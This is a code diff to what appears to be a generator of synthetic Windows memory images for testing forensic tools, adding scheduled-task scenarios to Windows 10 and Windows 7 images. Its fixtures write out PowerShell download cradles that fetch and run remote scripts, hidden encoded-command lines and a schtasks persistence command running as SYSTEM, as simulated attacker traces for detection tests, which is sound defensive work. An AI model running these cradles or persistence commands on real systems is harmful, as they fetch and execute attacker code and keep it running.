@@ -34,6 +34,9 @@ from dataclasses import dataclass, field
 from datetime import datetime, timezone
 from pathlib import Path
 
+from test_images.taskcache_scenarios import task_guid
+from test_images.windows_tree import ENCODED_CRADLE, ENCODED_PS_TASK, HOSTNAME
+
 VOLATILITY_VERSION = "2.28.2"
 PAGE = 0x1000
 KERNEL_DTB = 0x1AA000  # inside the window volatility's DTB scan looks at first
@@ -375,6 +378,16 @@ USER_SID = "S-1-5-21-2146493349-1640112132-851775531-1001"
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://185.220.101.47/a.ps1')"
 CRADLE_B64 = base64.b64encode(CRADLE.encode("utf-16-le")).decode()
 POWERSHELL = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
+# Windows 10: the disk image's (test_images/windows_tree.py) encoded-PowerShell task running under taskhostw.exe,
+# whose argument is that task's GUID; the in-memory TaskCache does not hold it (its cells were paged out), so on
+# its own the memory image shows a running task no definition names.
+DISK_TASK_GUID = task_guid(ENCODED_PS_TASK)
+DISK_CRADLE_COMMAND = f'"{POWERSHELL}" -NoProfile -WindowStyle Hidden -EncodedCommand {ENCODED_CRADLE}'
+# Windows 7: a download cradle run by taskeng.exe for a task the in-memory TaskCache does not hold.
+WIN7_CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://flash-update.example.net/s.ps1')"
+WIN7_CRADLE_COMMAND = ("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand "
+                       + base64.b64encode(WIN7_CRADLE.encode("utf-16-le")).decode())
+WIN7_HOSTNAME = "WIN7-PC"
 
 
 @dataclass
@@ -421,6 +434,7 @@ class Scenario:
     processes: list[Proc]
     tasks: list[Task]
     hive_user_space: bool  # Win10: hive bins live in the Registry process
+    hostname: str = ""  # SYSTEM ...\Control\ComputerName\ComputerName
 
 
 def _win10() -> Scenario:
@@ -448,6 +462,10 @@ def _win10() -> Scenario:
              r"C:\Windows\system32\rundll32.exe", threads=5),
         Proc(7016, 1236, "svcupd.exe", "2024-05-14T09:30:00Z", r'"C:\ProgramData\SysUpdate\svcupd.exe" --silent',
              r"C:\ProgramData\SysUpdate\svcupd.exe", threads=3),
+        Proc(7400, 1236, "taskhostw.exe", "2024-05-14T09:40:00Z", f"taskhostw.exe {DISK_TASK_GUID}",
+             r"C:\Windows\system32\taskhostw.exe", session=1, sid=USER_SID, threads=6),
+        Proc(7412, 7400, "powershell.exe", "2024-05-14T09:40:01Z", DISK_CRADLE_COMMAND, POWERSHELL, session=1, sid=USER_SID,
+             threads=11),
     ]
     tasks = [
         Task(r"\Microsoft\Windows\Wininet\CacheTask", "{5D8E0B6F-4C2A-4E1B-9F1D-3A6C2B7E8F90}",
@@ -464,7 +482,7 @@ def _win10() -> Scenario:
              "2024-05-14T09:12:13Z", None, index=0, author=r"NT AUTHORITY\SYSTEM"),
     ]
     return Scenario("win10", False, uuid.UUID("1f4b5a42-7c2d-4e0b-9a3f-5c7e2b1d0a11"), 1, (10, 0, 19041, 1),
-                    0xFFFFF8017A200000, 0xFFFFC30A1B000000, "2024-05-14T08:11:40Z", procs, tasks, True)
+                    0xFFFFF8017A200000, 0xFFFFC30A1B000000, "2024-05-14T08:11:40Z", procs, tasks, True, HOSTNAME)
 
 
 def _win7() -> Scenario:
@@ -483,17 +501,23 @@ def _win7() -> Scenario:
         Proc(2412, 900, "taskeng.exe", "2019-03-05T08:15:00Z", r"taskeng.exe {7A3F9C21-5B4E-4D8A-9E6F-1C2B3D4E5F60} S-1-5-18:NT AUTHORITY\System:Service:",
              r"C:\Windows\system32\taskeng.exe", threads=5),
         Proc(2520, 2412, "cmd.exe", "2019-03-05T08:15:01Z", r'C:\Windows\system32\cmd.exe /c "C:\Windows\Temp\bk.bat"', r"C:\Windows\system32\cmd.exe", threads=1),
+        Proc(2536, 2412, "powershell.exe", "2019-03-05T08:15:02Z", WIN7_CRADLE_COMMAND,
+             r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", threads=7),
+        Proc(2000, 1820, "schtasks.exe", "2019-03-05T08:10:00Z",
+             r'schtasks.exe /create /tn AdobeFlashSync /tr "cmd.exe /c C:\Windows\Temp\bk.bat" /sc onstart /ru SYSTEM /f',
+             r"C:\Windows\system32\schtasks.exe", session=1, sid=USER_SID, threads=0, exit="2019-03-05T08:10:01Z",
+             linked=False),
     ]
     tasks = [
         Task(r"\AdobeFlashSync", "{3DC1692F-C720-4D79-BC69-9032ABF0CB22}",
              [("exec", "cmd.exe", r'/c "C:\Windows\Temp\bk.bat"', "")], "LocalSystem", SYSTEM_SID,
-             "2019-03-04T22:10:05Z", "2019-03-05T08:15:00Z", author=r"WIN7-PC\admin"),
+             "2019-03-05T08:10:01Z", "2019-03-05T08:15:00Z", author=r"WIN7-PC\admin"),
         Task(r"\Microsoft\Windows\Defrag\ScheduledDefrag", "{6C4A1E2B-3D5F-4A7B-8C9D-0E1F2A3B4C5D}",
              [("exec", r"%windir%\system32\defrag.exe", "-c", "")], "LocalSystem", SYSTEM_SID,
              "2009-07-14T04:53:53Z", "2019-03-01T01:00:00Z"),
     ]
     return Scenario("win7", True, uuid.UUID("3844dbb9-2017-4967-be7a-a4a2c20430fa"), 2, (6, 1, 7601, 17514),
-                    0xFFFFF80002A00000, 0xFFFFFA8000C00000, "2019-03-05T07:58:00Z", procs, tasks, False)
+                    0xFFFFF80002A00000, 0xFFFFFA8000C00000, "2019-03-05T07:58:00Z", procs, tasks, False, WIN7_HOSTNAME)
 
 
 SCENARIOS = {"win10": _win10, "win7": _win7}
@@ -770,6 +794,8 @@ def system_hive(scenario: Scenario) -> Key:
     root = Key("ROOT", scenario.boot)
     select = root.sub("Select", scenario.boot)
     select.values += [("Current", *_dword(1)), ("Default", *_dword(1))]
+    root.sub(r"ControlSet001\Control\ComputerName\ComputerName", scenario.boot).values.append(
+        ("ComputerName", *_sz(scenario.hostname)))
     root.sub(r"ControlSet001\Services\Schedule", scenario.boot).values += [
         ("ImagePath", *_sz(r"%systemroot%\system32\svchost.exe -k netsvcs" + ("" if scenario.win7 else " -p"))), ("Start", *_dword(2))]
     return root
